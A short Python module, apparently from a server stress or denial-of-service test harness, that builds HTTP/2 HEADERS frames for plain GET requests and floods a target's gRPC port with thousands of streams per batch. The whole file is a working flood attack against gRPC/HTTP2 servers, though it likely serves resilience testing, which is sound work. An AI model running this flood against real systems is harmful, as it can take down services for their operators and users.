"""A thousand requests at a time that are not gRPC, on the port of gRPC."""

from wire import END_HEADERS, END_STREAM, GET, HEADERS, PREFACE, flood_connection, frame, settings


def chunks():
    for first in range(1, 1 << 30, 2_000):
        yield b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, stream, GET) for stream in range(first, first + 2_000, 2))


def flood(target, until):
    return flood_connection(target.grpc, until, PREFACE + settings(), chunks)
